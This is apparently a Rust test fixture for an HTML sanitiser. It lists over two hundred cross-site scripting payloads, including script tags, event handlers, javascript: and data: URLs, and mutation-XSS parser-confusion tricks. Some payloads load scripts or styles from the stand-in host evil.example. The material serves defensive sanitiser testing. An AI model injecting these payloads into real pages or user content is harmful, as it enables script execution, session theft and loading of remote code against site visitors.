//! Attacks on readers, one on a line, grouped by their goal.
//!
//! The lists follow attacks that have broken sanitisers. To add one, put it into the list of its
//! kind.

use super::payloads_markdown::{MARKDOWN, nests};

/// Scripts as elements, whole, nested, misspelt and hidden.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x0Csrc=//evil.example/x.js></script\x0C>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)</script/x>",
    "<script><!--<script>alert(1)</script>-->",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<b><script>alert(1)</b></script>",
    "<p>before<script>alert(1)",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>a{background:url(javascript:alert(1))}",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
];

/// Handlers of events, in every spelling of an attribute.
const HANDLERS: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x\x0Conerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x alt=``onerror=alert(1)``  onerror=alert(1)>",
    "<img \"\"\"><img src=x onerror=alert(1)>\">",
    "<img src='x'onerror='alert(1)'>",
    "<p onclick=alert(1)>click</p>",
    "<a href=https://a.example onmouseover=alert(1)>over</a>",
    "<b/onpointerenter=alert(1)>over</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=checkbox checked onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<table background=javascript:alert(1)><td onclick=alert(1)>x</table>",
    "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<time datetime=2022 onbeforematch=alert(1) hidden=until-found>x</time>",
    "<xss onbeforescriptexecute=alert(1) contenteditable autofocus onfocus=alert(1)>x",
    "<a title='\" onclick=\"alert(1)' onclick=alert(1) href=https://a.example>x</a>",
    "<a =onclick=alert(1) onclick=alert(1)>x</a>",
    "<p a='>' onclick=alert(1)>x</p>",
];

/// Addresses that run code, under names, blanks and references that browsers see through.
const ADDRESSES: &[&str] = &[
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\r\nscript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"\x1Fjavascript:alert(1)\">x</a>",
    "<a href=\"&#1;&#32;javascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&colon;alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript&#x3a;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href='javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>'>x</a>",
    "<a href=\"javascript://example.org/%0aalert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=\"Data:text/html,x\">x</a>",
    "<a href=\"blob:https://blog.example.org/1\">x</a>",
    "<a href=\"filesystem:https://blog.example.org/x\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"x\" href=\"javascript:alert(1)\" xlink:href=\"javascript:alert(1)\">x</a>",
    "<a ping=https://evil.example/ href=https://a.example>x</a>",
    "<a target=_blank href=https://a.example download>x</a>",
    "<area href=javascript:alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<img src=x srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
    "<picture><source srcset=https://evil.example/pixel.gif><img src=x></picture>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<ins cite=javascript:alert(1)>x</ins>",
    "<img longdesc=javascript:alert(1) src=x usemap=#m>",
];

/// Elements that fetch, frame, send or redirect.
const EMBEDS: &[&str] = &[
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt; src=https://a.example></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<iframe><script>alert(1)</script></iframe>",
    "<iframe name=x src=//evil.example onload=alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<object><param name=movie value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<video poster=javascript:alert(1) src=javascript:alert(1)></video>",
    "<video src=x><track kind=captions src=data:text/vtt,x default></video>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=https://evil.example/>",
    "<base target=\"<script>\">",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example></portal>",
    "<slot name=x></slot><template shadowrootmode=open><script>alert(1)</script></template>",
];

/// Text that one parser takes for text and the next for elements.
const CONFUSION: &[&str] = &[
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&lpar;1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\" /></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><noscript><img src=\"</noscript><img src=x onerror=alert(1)>\"></svg>",
    "<svg><p><title><a id=\"</title><img src=x onerror=alert(1)>\">",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi><mglyph><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></p></noscript>",
    "<noscript><!--</noscript><img src=x onerror=alert(1)>--></noscript>",
    "<style><a title=\"</style><img src=x onerror=alert(1)>\"></a></style>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></a></title>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<xmp>&lt;/xmp&gt;<img src=x onerror=alert(1)>",
    "<noembed><a title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><a title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<iframe><a title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<plaintext><img src=x onerror=alert(1)></plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><svg onload=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src=1 onerror=alert(1)>\">",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<svg><![CDATA[<p title=\"]]><img src=x onerror=alert(1)>\"></svg>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY a \"><img src=x onerror=alert(1)>\">]>",
    "<table><a href=javascript:alert(1)><tr><td><a href=javascript:alert(1)>x</table>",
    "<p id=\"</p><img src=x onerror=alert(1)>\"><table><style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<button><p><button><svg onload=alert(1)></button>",
];

/// Styles, names and places that belong to the page.
const CLAIMS: &[&str] = &[
    "<div style=\"position:fixed;inset:0;background:url(https://evil.example/x)\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</p>",
    "<p style='text-align:center;background:url(\"javascript:alert(1)\")'>x</p>",
    "<p STYLE=color:red>x</p>",
    "<a id=location href=https://a.example>x</a>",
    "<a name=body>x</a><a name=cookie id=cookie>x</a>",
    "<img name=getElementById id=documentElement src=x>",
    "<form id=document name=location><input name=attributes></form>",
    "<p id=comment-form class=\"comment-form button\">x</p>",
    "<span class=\"notice error\">x</span>",
    "<a href=https://a.example rel=opener target=_top>x</a>",
    "<p is=x-y slot=z part=a data-x=1 aria-hidden=true role=alert tabindex=1 accesskey=x contenteditable>x</p>",
    "<font face=x size=7 color=red>x</font>",
    "<p xmlns:x=http://www.w3.org/1999/xlink x:href=javascript:alert(1) xml:base=javascript:alert(1)>x</p>",
    "</main></body></html><p>x",
    "</div></div></main><h1>x</h1>",
    "</li></ul></td></tr></table></main><p>x",
    "<main></main><footer></footer>",
];

/// Tags that never end and bytes that should not be there.
const BROKEN: &[&str] = &[
    "<img src=x onerror=alert(1)",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x\" onerror=\"alert(1)//",
    "text <a href=javascript:alert(1)",
    "text <svg onload=alert(1) x=\"",
    "<p title=\"unclosed",
    "<a href='",
    "text <!-- never closed <img src=x onerror=alert(1)>",
    "text <scr\0ipt>alert(1)</scr\0ipt>",
    "<\0script>alert(1)</script><svg onload=alert(1)>",
    "<img src=x o\0nerror=alert(1)>",
    "<a href=\"java\0script:alert(1)\" onclick=x>x</a>",
    "<img\0src=x onerror=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "\u{FEFF}<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>\u{FFFE}\u{FFFF}\u{0B}",
    "%3Cscript%3Ealert(1)%3C/script%3E<svg/onload=alert(1)>",
    "\u{202E}<script>alert(1)</script>\u{202C}",
];

/// Looks worse than it is, and must not become it: full-width and Cyrillic letters, hidden ones,
/// lone references.
const LOOKALIKES: &[&str] = &[
    "＜script＞alert(1)＜/script＞",
    "\u{2039}script\u{203A}alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">x</a>",
    "<a href=\"jаvascript:alert(1)\">x</a>",
    "<a href=\"javaſcript:alert(1)\">x</a>",
    "<a href=\"java\u{200B}script:alert(1)\">x</a>",
    "<a href=\"java\u{AD}script:alert(1)\">x</a>",
    "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>",
    "<a href=\"\u{202E}javascript:alert(1)\">x</a>",
    "<a href=\"java\u{2066}script\u{2069}:alert(1)\">x</a>",
    "<a href=\"\u{A0}javascript:alert(1)\">x</a>",
    "<a href=\"java&ZeroWidthSpace;script:alert(1)\">x</a>",
    "<a href=\"java&shy;script:alert(1)\">x</a>",
    "<a href=\"javascript：alert(1)\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\\@a.example\">x</a>",
    "<a href=\"\\\\evil.example\">x</a>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<img alt=\"` onerror=alert(1)\" src=x>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "1 < 2 && 3 > 2 <3 </3 <",
];

/// Returns everything that would do harm if it reached a page unchanged.
pub fn harmful() -> Vec<String> {
    let lists = [
        SCRIPTS, HANDLERS, ADDRESSES, EMBEDS, CONFUSION, CLAIMS, BROKEN,
    ];
    lists
        .into_iter()
        .flatten()
        .map(|payload| (*payload).to_owned())
        .collect()
}

/// Everything written down, with what only looks like harm.
pub fn written() -> Vec<String> {
    let others = LOOKALIKES
        .iter()
        .chain(MARKDOWN)
        .map(|payload| (*payload).to_owned());
    harmful().into_iter().chain(others).collect()
}

/// The whole table.
pub fn all() -> Vec<String> {
    written().into_iter().chain(nests()).collect()
}
